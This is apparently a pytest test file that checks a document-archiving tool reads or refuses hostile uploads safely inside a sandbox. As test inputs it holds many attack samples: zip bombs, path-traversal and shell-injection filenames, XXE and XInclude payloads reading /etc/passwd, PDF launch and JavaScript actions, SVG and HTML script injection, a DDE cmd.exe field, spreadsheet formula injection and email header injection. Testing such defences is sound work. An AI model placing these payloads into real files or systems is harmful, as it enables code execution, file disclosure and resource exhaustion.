"""The catalogue of hostile files, lines 1 to 22: each is read or refused in one line, within its ceilings, in a cell.

The ceilings are held by the system (rlimits of the cell); what a cell took is looked at afterwards.
"""

from __future__ import annotations

import io
import json
import os
import tarfile
import zipfile
import zlib

import pytest
from hostile_making import (
    SENTENCE,
    docx,
    entry,
    mp4,
    odt,
    pdf,
    png,
    raw_zip,
    tar_with,
    xml_attacks,
    zeros,
    zipped,
)

from letapis.archive.archive import Archive
from letapis.archive.verification import verify
from letapis.previews.errors import PreviewError
from letapis.previews.pixels import pixels
from letapis.previews.serving import headers_of_original, safe_name
from letapis.publications.tables import cell as table_cell
from letapis.sandbox import cell
from letapis.sandbox.limits import CellLimits
from letapis.sources import in_cell
from letapis.sources.confined import read_confined, refuse_early
from letapis.sources.errors import SourceError
from letapis.sources.given import Given
from letapis.sources.limits import Limits
from letapis.sources.reading import read
from letapis.workflow.ingest import add

MOST_MEMORY, MOST_SECONDS = 512, 10


@pytest.fixture(autouse=True)
def ceilings(monkeypatch):
    """What every cell of the test took."""
    taken = []
    real = cell.measured

    def noted(*arguments, **options):
        limits = options["limits"]
        assert limits.processor_seconds <= MOST_SECONDS + limits.memory_megabytes, "a limit is always given"
        answer = real(*arguments, **options)
        taken.append(answer)
        return answer

    monkeypatch.setattr(cell, "measured", noted)
    yield taken
    assert all(answer.peak_megabytes <= MOST_MEMORY for answer in taken)
    assert all(answer.processor_seconds <= MOST_SECONDS for answer in taken)


def texts(name, data, given=None):
    """The texts of a file; its documents hold nothing but what they should."""
    result = read_confined(name, data, given)
    assert all(refused.way_out for refused in result.refused)
    return [document.text for document in result.documents]


def refusal(name, data, given=None):
    with pytest.raises(SourceError) as caught:
        read_confined(name, data, given)
    line = str(caught.value)
    assert line.isprintable(), "one line, and nothing in it that steers a terminal"
    assert len(line) < 600
    assert caught.value.way_out
    return line


def either(name, data, given=None):
    """Read or refused, whichever: but in a known way."""
    try:
        return texts(name, data, given)
    except SourceError:
        return refusal(name, data, given)


def shown_or_refused(data):
    """One page or one line."""
    try:
        return 1 <= len(pixels(data)) <= 4
    except PreviewError as error:
        return str(error).isprintable()


# 1, 2: bombs


@pytest.mark.parametrize("part", ["word/document.xml", "content.xml", "bomb"])
@pytest.mark.parametrize("claimed", [10**9, 5_000])
def test_01_a_flat_bomb(part, claimed):
    packed = zeros(1_000)
    assert len(packed) < 1_500_000
    data = raw_zip(
        entry("mimetype", b"application/vnd.oasis.opendocument.text"),
        entry(part, packed, size=claimed, method=8),
    )
    line = refusal("a.docx", data)
    assert "unpacks to" in line if claimed > 10**6 else "is damaged" in line or "which is not read" in line


def test_02_entries_that_lie_over_one_another():
    packed = zeros(20)
    many = [entry("word/document.xml", packed, size=20_000_000, method=8)]
    many += [entry(f"word/{n}.xml", packed, size=20_000_000, method=8, at=0) for n in range(50)]
    assert len(raw_zip(*many)) < 30_000
    assert "unpacks to" in refusal("a.docx", raw_zip(*many))
    two = raw_zip(entry("word/document.xml", b"<a/>"), entry("word/b.xml", b"<a/>", at=0))
    assert "lie in one another" in refusal("a.docx", two)


# 3, 4: archives in archives, and many


def test_03_archives_in_archives_are_not_opened():
    inner = zipped({"report.txt": SENTENCE})
    for _ in range(30):
        inner = zipped({"inner.zip": inner})
    assert "archive of files" in refusal("a.zip", inner)
    assert "archive of files" in refusal("a.docx", zipped({"a.zip": b"PK\x03\x04"}))


def test_03_a_tape_that_holds_itself(corpora):
    refusal("recursion.tar", (corpora / "zip" / "recursion.tar").read_bytes())


def test_04_thirty_thousand_names():
    data = raw_zip(*(entry(f"word/{n}.xml") for n in range(30_000)))
    assert "packed_parts" in refusal("a.docx", data)


# 5: names

NAMES = [
    "../../evil.txt", "/etc/evil.txt", "C:\\evil.txt", "..\\..\\evil.txt", "a\x00.txt", "file.txt::$DATA",
    "CON", "con.txt", "trailing.", "trailing ",
    "x" * 5_000 + ".txt", "a\u202egpj.exe", "\x1b]0;owned\x07.txt",
    "a\r\nb.txt", "'; drop.txt", "$(id).txt", "-rf", "\ud800.txt", "é.txt",
    "%2e%2e/evil.txt", "<img src=x onerror=x>.txt", "=1+1.txt",
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_05_a_name_is_a_word_and_no_place(name):
    told = name.encode("utf-8", "replace").decode()
    (text,) = texts(told, SENTENCE.encode())
    assert text == SENTENCE
    refusal_line = SourceError(told, "", "x", "y")
    assert refusal_line.file == told
    safe = safe_name(name)
    assert not set(safe) & set('/\\:\x00\r\n\x1b\u202e"')
    assert headers_of_original(name, 1)["Content-Disposition"].isprintable()


@pytest.mark.parametrize("name", NAMES)
def test_05_a_name_inside_an_archive_leads_nowhere(name, tmp_path):
    before = set(tmp_path.parent.rglob("*"))
    raw = name.encode("utf-8", "replace").replace(b"\x00", b"\x00")
    data = raw_zip(entry("word/document.xml", b"<a/>"), entry(raw, b"evil"))
    either("a.docx", data)
    assert set(tmp_path.parent.rglob("*")) == before


def test_05_and_on_the_disk_the_hash_is_the_name(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    names = [b"a\r\nb.txt", b"\x1b[2J.txt", b"a\xe2\x80\xaegpj.txt", b"\xff\xfe.txt", b"-rf.txt", b"..txt", b"n" * 200]
    for number, name in enumerate(names):
        with open(os.path.join(os.fsencode(folder), name), "wb") as file:  # noqa: PTH118, PTH123
            file.write(f"{SENTENCE} {number}".encode())
    archive = Archive.create(tmp_path / "archive", "anna")
    added = add(archive, [folder], "anna")
    assert len(added.sealed) == len([name for name in names if not name.startswith(b".")])
    lines = (archive.root / "custody.jsonl").read_bytes().splitlines()
    assert all(json.loads(line)["act"] for line in lines), "a name breaks no line of the log"
    assert verify(archive).intact
    assert {path.name for path in (archive.root / "originals").rglob("*") if path.is_file()} == {
        one.sha256 for one in added.sealed
    }


# 6, 7, 8: links, twins, lies


@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE])
def test_06_links_and_devices_in_a_tape(kind):
    assert "archive of files" in refusal("a.tar", tar_with(kind))


@pytest.mark.parametrize("attributes", [0o120777, 0o020666, 0o010666])
def test_06_links_and_devices_in_a_packed_file(attributes):
    data = raw_zip(entry("word/document.xml", b"/etc/passwd", attributes=attributes), entry("word/a", b"/etc/passwd"))
    assert "root:" not in str(either("a.docx", data))


def test_06_links_and_devices_in_a_folder(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "report.txt").write_text(SENTENCE, encoding="utf-8")
    (folder / "copy.txt").symlink_to(folder / "report.txt")
    (folder / "passwd.txt").symlink_to("/etc/passwd")
    (folder / "up.txt").symlink_to("../outside.txt")
    (tmp_path / "outside.txt").write_text("outside of the folder", encoding="utf-8")
    (folder / "round").symlink_to(folder)
    os.mkfifo(folder / "pipe.txt")
    added = add(Archive.create(tmp_path / "archive", "anna"), [folder], "anna")
    assert [one.size for one in added.sealed] == [len(SENTENCE)]
    assert sorted(one.file for one in added.refused if "outside of its folder" in one.problem) == [
        "passwd.txt",
        "up.txt",
    ]


UTF8 = 0x800  # the names are in UTF-8


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("word/document.xml", "word/document.xml"),
        ("word/document.xml", "Word/Document.xml"),
        ("word/document.xml", "word\\document.xml"),
        ("word/й.xml", "word/и\u0306.xml"),
    ],
)
def test_07_two_parts_of_one_name(first, second):
    parts = [entry(name, b"<a/>", flags=UTF8) for name in dict.fromkeys(("word/document.xml", first))]
    assert "is there twice" in refusal("a.docx", raw_zip(*parts, entry(second, b"<b/>", flags=UTF8)))


GOOD = zlib.compressobj(9, zlib.DEFLATED, -15)
PACKED = GOOD.compress(b"<a>Four</a>") + GOOD.flush()


@pytest.mark.parametrize(
    "lie",
    [
        {"size": 3},
        {"size": 10**6},
        {"size": 0xFFFFFFFF},
        {"crc": 1},
        {"method": 99},
        {"method": 14},
        {"flags": 1},
        {"flags": 0x2000},
        {"claimed": 10**6},
        {"claimed": 0},
    ],
)
def test_08_lies_about_sizes_sums_and_methods(lie):
    told = {"size": 11, "crc": zlib.crc32(b"<a>Four</a>"), "method": 8} | lie
    refusal("a.docx", raw_zip(entry("word/document.xml", PACKED, **told)))


@pytest.mark.parametrize("name", [b"word/\x8d\xa5\xa2.xml", b"word/\xff.xml", "word/Звесткі.xml".encode()])
def test_08_names_in_other_alphabets(name):
    either("a.docx", raw_zip(entry("word/document.xml", b"<a/>"), entry(name, b"<a/>")))


def test_08_large_file_records():
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive, archive.open("word/document.xml", "w", force_zip64=True) as part:
        part.write(b"<a/>")
    refusal("a.docx", stream.getvalue())


# 9: XML


@pytest.mark.parametrize("attack", xml_attacks())
def test_09_entities_in_office_files(attack):
    before = xml_attacks("w:document")[attack]
    body = "<w:p><w:r><w:t>&e;</w:t></w:r></w:p>"
    assert "XML entities" in refusal("a.docx", docx(body, before))
    assert "XML entities" in refusal("a.odt", odt("<t:p>&e;</t:p>", before))


@pytest.mark.parametrize("attack", xml_attacks())
@pytest.mark.parametrize(("name", "element"), [("a.svg", "svg"), ("a.xml", "x"), ("a.kml", "kml"), ("a.gpx", "gpx")])
def test_09_files_of_xml_are_not_read(attack, name, element):
    data = f'<?xml version="1.0"?>{xml_attacks(element)[attack]}<{element}>&e;</{element}>'.encode()
    refusal(name, data)


def test_09_a_spreadsheet_and_what_includes_others():
    assert "spreadsheet" in refusal("a.xlsx", zipped({"xl/workbook.xml": xml_attacks()["file"]}))
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    for name, data in (
        ("a.docx", docx(f"<w:p><w:r><w:t>{SENTENCE}{include}</w:t></w:r></w:p>")),
        ("a.odt", odt(f"<t:p>{SENTENCE}{include}</t:p>")),
    ):
        assert "root:" not in str(either(name, data))


# 10: two kinds at once

JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(30)
POLYGLOTS = {
    "pdf and zip": pdf() + zipped({"word/document.xml": "<a/>"}),
    "zip and pdf": zipped({"a.txt": pdf()}, zipfile.ZIP_STORED),
    "jpg and html": JPEG + b"<html><script>alert(1)</script>",
    "gif and js": b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
    "mp3 and jpg": b"ID3\x04\x00\x00\x00\x00\x00\x00" + JPEG,
    "html and pdf": b"<html><body>Four were fined.<!--" + pdf() + b"-->",
    "text and zip": SENTENCE.encode() + zipped({"a.txt": "x"}),
    "bmp and js": b"BM=1;alert(1)//" + bytes(60),
    "mail and html": b"From: a@example.org\nTo: b@example.org\nSubject: x\n\n<html><script>x</script>Four were fined.",
}


@pytest.mark.parametrize("data", POLYGLOTS.values(), ids=POLYGLOTS)
def test_10_two_kinds_at_once_are_one_and_are_served_as_bytes(data):
    outcomes = {str(either(f"a{suffix}", data)).replace(suffix, "") for suffix in (".pdf", ".jpg", ".html", ".bin")}
    assert all("alert(1)" not in outcome or "Four" not in outcome for outcome in outcomes)
    headers = headers_of_original("a.html", len(data))
    assert headers["Content-Type"] == "application/octet-stream"
    assert headers["Content-Disposition"].startswith("attachment")


# 11, 12, 13: what acts

ACTIVE = {
    "script": pdf(catalog=b"/OpenAction <</S /JavaScript /JS (app.launchURL\\('http://127.0.0.1:9'\\))>>"),
    "launch": pdf(catalog=b"/OpenAction <</S /Launch /F (/bin/sh)>>"),
    "address": pdf(catalog=b"/OpenAction <</S /URI /URI (http://127.0.0.1:9)>>"),
    "a file inside": pdf(
        catalog=b"/Names <</EmbeddedFiles <</Names [(evil.exe) 6 0 R]>>>>", more=b"6 0 obj <</Type /Filespec>> endobj\n"
    ),
    "a form": pdf(catalog=b"/AcroForm <</XFA (<x/>) /Fields []>>"),
}


@pytest.mark.parametrize("data", ACTIVE.values(), ids=ACTIVE)
def test_11_what_a_pdf_would_do_is_not_done(data):
    (text,) = texts("a.pdf", data)
    assert text.strip() == "Four workers were fined in Hrodna"
    assert len(pixels(data)) == 1


BROKEN = {
    "locked": pdf().replace(b"/Size 6", b"/Size 6 /Encrypt <</Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4>>"),
    "pages in a ring": pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
    "contents in a ring": pdf().replace(b"/Contents 4 0 R", b"/Contents 3 0 R"),
    "a table that points at itself": pdf().replace(b"/Size 6", b"/Size 6 /Prev 9"),
    "a million pages": pdf().replace(b"/Count 1", b"/Count 1000000"),
    "brackets": pdf(catalog=b"[" * 100_000),
    "a bomb": pdf(zlib.compress(b"BT (x) Tj ET\n" * 3_000_000, 9)).replace(
        b"<</Length", b"<</Filter /FlateDecode /Length"
    ),
    "a font without end": pdf(b"BT /F 12 Tf 20 100 Td (" + b"x" * 2_000_000 + b") Tj ET"),
}


@pytest.mark.parametrize("data", BROKEN.values(), ids=BROKEN)
def test_11_a_pdf_that_goes_round_and_round(data):
    either("a.pdf", data)
    assert shown_or_refused(data)


DRAWINGS = [
    b"<svg onload=alert(1)>", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    b'<svg><foreignObject><iframe src="http://127.0.0.1:9"/></foreignObject></svg>',
    b'<svg><image href="http://127.0.0.1:9/x.png"/><use href="http://127.0.0.1:9/x.svg#a"/></svg>',
    b"<svg><style>@import url(http://127.0.0.1:9/x.css);</style></svg>", b"\xef\xbb\xbf  <!-- x --><svg/>",
]  # fmt: skip


@pytest.mark.parametrize("data", DRAWINGS)
def test_12_a_drawing_is_neither_read_nor_shown(data):
    assert "SVG" in refusal("a.svg", data)
    assert "SVG" in refusal("a.txt", data)
    with pytest.raises(PreviewError, match="neither a PDF nor a picture"):
        pixels(data)


PAGES = [
    '<a href="javascript:alert(1)">', '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9">',
    '<base href="http://127.0.0.1:9/">', '<form action="http://127.0.0.1:9"><input name=a value=secret></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<script>alert(1)</script>", "<img src=http://127.0.0.1:9/x>",
    "<link rel=stylesheet href=http://127.0.0.1:9/x.css>", "<object data=file:///etc/passwd></object>",
]  # fmt: skip


@pytest.mark.parametrize("attack", PAGES)
def test_13_a_page_is_its_words(attack):
    page = (
        f"<html><head>{attack}</head><body><article>{attack}<p>{SENTENCE} " + "And more words. " * 20 + "</p></article>"
    )
    (text,) = texts("a.html", page.encode())
    assert SENTENCE in text
    assert not any(word in text for word in ("alert", "127.0.0.1", "javascript", "<", "root:", "secret"))


# 14, 15: pictures


@pytest.mark.parametrize(
    "data",
    [png(65_535, 65_535), png(30_000, 30_000, bytes(1_000_000)), png(1, 1)[:40], b"GIF89a\xff\xff\xff\xff" + bytes(20),
     b"\x00\x00\x01\x00\x01\x00\xff\xff" + bytes(20), b"II*\x00" + bytes(4) + b"\xff" * 40],
)  # fmt: skip
def test_14_pictures_that_are_too_large_or_broken(data):
    refusal("a.png", data)
    with pytest.raises(PreviewError) as caught:
        pixels(data)
    assert str(caught.value).isprintable()


def test_15_what_a_file_says_of_its_typist_is_no_part_of_the_report():
    core = (
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Canary Typist</dc:creator></cp:coreProperties>'
    )
    info = b"6 0 obj <</Author (Canary Typist) /Title (Canary Typist)>> endobj\n"
    for name, data in (
        ("a.docx", docx(docProps__core__xml=core).replace(b"core/xml", b"core.xml")),
        ("a.pdf", pdf(more=info).replace(b"/Root 1 0 R", b"/Root 1 0 R /Info 6 0 R")),
    ):
        assert "Canary" not in str(read_confined(name, data).documents)


@pytest.mark.parametrize(
    "data", [mp4(), b"\x00\x00\x00\x18ftypheic" + bytes(12), b"\x00\x00\x00\x18ftypavif" + bytes(12)]
)
def test_15_videos_and_pictures_of_telephones_are_refused(data):
    assert "video, sound or HEIC" in refusal("a.heic", data)
    with pytest.raises(PreviewError):
        pixels(data)


# 16, 17: office and tables


def test_16_what_an_office_file_would_run_or_load():
    field = (
        '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        f"<w:r><w:t>{SENTENCE}</w:t></w:r></w:p>"
    )
    template = RELATION_OUTSIDE
    (text,) = texts(
        "a.docm", docx(field, **{"word__vbaProject.bin": b"\xd0\xcf", "word___rels__settings.xml.rels": template})
    )
    assert text == SENTENCE
    assert "old Word" in refusal("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500))


RELATION_OUTSIDE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type='
    '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "+cmd|'/C calc'!A0",
        "-2+3+cmd",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\ufeff=1",
        "＝1",
        "＋1+1",
        "－1+1",
        "＠x",
        "%0A=1",
    ],
)
def test_17_no_cell_is_a_formula(value):
    shown = str(table_cell(value))
    assert shown.startswith("'") or shown[:1] not in "=+-@\t\r＝＋－＠\ufeff"


@pytest.mark.parametrize("value", ["+375291234567", "-5", "12", "Hrodna"])
def test_17_numbers_stay_numbers(value):
    assert str(table_cell(value)) == value


# 18, 19: mails and exports

HEAD = b"From: A <a@example.org>\nTo: b@example.org\nDate: Sun, 11 Oct 2020 10:00:00 +0300\nSubject: x\n"
HEAD += b"MIME-Version: 1.0\n"
MAILS = {
    "ten thousand deep": HEAD
    + b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(10_000)),
    "no boundary": HEAD + b"Content-Type: multipart/mixed\n\nFour were fined.\n",
    "boundary of nothing": HEAD + b'Content-Type: multipart/mixed; boundary=""\n\n--\nFour were fined.\n----\n',
    "names in pieces": HEAD
    + b"Content-Type: text/plain; charset=utf-8; name*0*=utf-8''%2e%2e%2f; name*1=evil; name*9999999999=x\n\nFour.\n",
    "eight bits in the head": HEAD.replace(b"x\n", b"\xe7\xe0\xe4\xe5\xf0\xe6\xe0\xed\xfb\n", 1)
    + b"\nFour were fined.\n",
    "a head in the head": HEAD.replace(b"Subject: x", b"Subject: =?utf-8?q?x=0D=0ABcc:_c=40example.org?=")
    + b"\nFour.\n",
    "winmail.dat": HEAD
    + b"Content-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64\n\neJ8+Ig==\n",
    "a mail in a mail": HEAD + b"Content-Type: message/rfc822\n\n" + HEAD + b"\nFour were fined.\n",
    "another charset": HEAD + b"Content-Type: text/plain; charset=utf-16\n\n\xd7\xe5\xf2\xe2\xe5\xf0\xee\n",
    "a charset of files": HEAD + b"Content-Type: text/plain; charset=../../etc/passwd\n\nFour were fined.\n",
    "a head without end": HEAD + b"X: " + b"a" * 3_000_000,
    "ten thousand heads": HEAD + b"".join(b"X-%d: y\n" % n for n in range(10_000)) + b"\nFour were fined.\n",
    "packed words": HEAD + b"Content-Transfer-Encoding: uuencode\n\nbegin 644 ../../evil\n#0V%T\n`\nend\n",
}


@pytest.mark.parametrize("data", MAILS.values(), ids=MAILS)
def test_18_mails(data):
    try:
        result = read_confined("a.eml", data)
    except SourceError:
        refusal("a.eml", data)
        return
    for document in result.documents:
        assert "\n" not in (document.title or "") + (document.author or "")
        assert "root:" not in document.text


def message(**more):
    return {"id": 1, "type": "message", "date": "2020-10-11T10:00:00", "from": "A", "text": SENTENCE} | more


EXPORTS = {
    "no messages": {"name": "Yard", "type": "public_channel"},
    "messages of another type": {"name": "Yard", "messages": "none"},
    "a message of another type": {"name": "Yard", "type": "public_channel", "messages": [None, 3, "x", [], message()]},
    "text of another type": {"name": "Yard", "type": "public_channel", "messages": [message(text={"a": 1})]},
    "dates out of all calendars": {
        "name": "Yard", "type": "public_channel",
        "messages": [message(date="99999-99-99T99:99:99"), message(id=2, date=-1), message(id=3, date_unixtime="1e99")],
    },
    "one id twice": {"name": "Yard", "type": "public_channel", "messages": [message(), message(text="Another.")]},
    "media elsewhere": {"name": "Yard", "type": "public_channel", "messages": [message(photo="../../../etc/passwd")]},
    "names of other types": {"name": {"a": 1}, "type": 5, "id": "x", "messages": [message(**{"from": ["A"]})]},
    "numbers without end": {"name": "Yard", "type": "public_channel", "id": 10**300, "messages": [message(id=10**300)]},
}  # fmt: skip


@pytest.mark.parametrize("export", EXPORTS.values(), ids=EXPORTS)
def test_19_exports_of_telegram(export):
    outcome = either("result.json", json.dumps(export).encode())
    assert "root:" not in str(outcome)


def test_19_ids_stay_apart():
    found = read_confined("result.json", json.dumps(EXPORTS["one id twice"]).encode()).documents
    assert len({one.id for one in found}) == len(found)


def test_19_an_export_as_pages_with_script_in_the_names():
    body = "".join(
        f'<div class="message"><div class="from_name">&lt;script&gt;alert(1)&lt;/script&gt;</div><div class="text">'
        f"{SENTENCE}</div></div>"
        for _ in range(50)
    )
    found = read_confined("messages.html", f"<html><body>{body}</body></html>".encode()).documents
    assert all("<script>" not in (one.author or "") for one in found)


@pytest.mark.parametrize(
    ("name", "size"), [("result.json", 2 * 10**9), ("a.txt", 10**10), ("a.pdf", 10**10), ("a.zip", 10**9)]
)
def test_19_22_what_is_too_large_is_refused_before_it_is_in_memory(name, size):
    beginning = {"a.pdf": b"%PDF-1.7", "a.zip": b"PK\x03\x04"}.get(name, b'{"name": "x"')
    with pytest.raises(SourceError, match="the limit"):
        refuse_early(name, beginning, size)
    with pytest.raises(SourceError, match="PNG picture"):
        refuse_early("a.png", b"\x89PNG", 10**10)


def test_22_ten_gigabytes_are_not_even_copied(tmp_path):
    with (tmp_path / "a.txt").open("wb") as file:
        file.truncate(10**10)  # a hole: nothing is on the disk
    archive = Archive.create(tmp_path / "archive", "anna")
    added = add(archive, [tmp_path / "a.txt"], "anna")
    assert "has 10000 MB" in added.refused[0].problem
    assert archive.sealed() == {}
    assert sum(path.stat().st_size for path in archive.root.rglob("*")) < 100_000


# 20, 21: web archives, sound and video


WARC = (
    b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://example.org/\r\nWARC-Date: 2020-10-11T10:00:00Z\r\n"
    b"WARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-000000000000>\r\n"
    b"Content-Type: application/http; msgtype=response\r\n"
)
ANSWER = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n%s\r\n%s"
PAGE = b"<html><body><p>Four workers were fined in Hrodna.</p></body></html>"


def warc(answer, length=None, more=b""):
    return (
        WARC + more + b"Content-Length: %d\r\n\r\n" % (len(answer) if length is None else length) + answer + b"\r\n\r\n"
    )


WARCS = {
    "breaks off": warc(ANSWER % (b"", PAGE))[:-40],
    "a lie about its length": warc(ANSWER % (b"", PAGE), 10**12),
    "a length below nothing": warc(ANSWER % (b"", PAGE), -5),
    "another digest": warc(ANSWER % (b"", PAGE), more=b"WARC-Payload-Digest: sha1:AAAA\r\n"),
    "chunks that lie": warc(ANSWER % (b"Transfer-Encoding: chunked\r\n", b"ffffffff\r\n" + PAGE)),
    "packed in packed": warc(ANSWER % (b"Content-Encoding: gzip, gzip, gzip\r\n", zlib.compress(PAGE))),
    "a bomb": warc(
        ANSWER % (b"Content-Encoding: deflate\r\n", zlib.compress(bytes(1_000_000), 9)[:2] + zeros(400)),
    ),
    "an address that is none": warc(ANSWER % (b"", PAGE)).replace(b"http://example.org/", b"file:///etc/passwd"),
}


@pytest.mark.parametrize("data", WARCS.values(), ids=WARCS)
def test_20_web_archives(data):
    assert "root:" not in str(either("a.warc", data))


PLAYED = {
    "a day of silence": mp4(),
    "one byte": b"\x00",
    "a list of addresses": b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\nhttp://127.0.0.1:9/x.ts\n",
    "another list": b"[playlist]\nFile1=file:///etc/passwd\n",
    "matroska": b"\x1a\x45\xdf\xa3" + bytes(40),
    "sound": b"fLaC" + bytes(40),
}


@pytest.mark.parametrize("data", PLAYED.values(), ids=PLAYED)
def test_21_nothing_is_played(data):
    refusal("a.mp4", data)


# 22: uploads stand in tests/workflow/test_receiving.py; here what reading them costs


def test_22_a_reader_is_stopped_at_its_memory_and_the_next_file_is_read():
    body = "<w:p><w:r><w:t>" + "x" * 30 + "</w:t></w:r></w:p>"
    data = docx(body * 900_000)
    assert "memory" in refusal("a.docx", data, Given(limits=Limits(memory_megabytes=60, unpacked_times=10_000)))
    assert texts("b.docx", docx()) == [SENTENCE]


def test_22_and_at_its_time():
    data = b"<html><body>" + b"<p>Four workers were fined in Hrodna.</p>" * 60_000
    line = refusal("a.html", data, Given(limits=Limits(seconds=0.01)))
    assert "raise seconds under [limits]" in line


def test_the_ceilings_are_those_of_the_catalogue():
    limits = CellLimits()
    assert (limits.processor_seconds, limits.wall_seconds) == (10, 20)
    in_cell.prepare("zip")
    empty = cell.measured("letapis.sandbox.describing:nothing", limits=limits)
    assert empty.peak_megabytes + limits.memory_megabytes <= MOST_MEMORY


def test_the_reader_outside_gives_the_same():
    assert read("a.docx", docx()).documents == read_confined("a.docx", docx()).documents
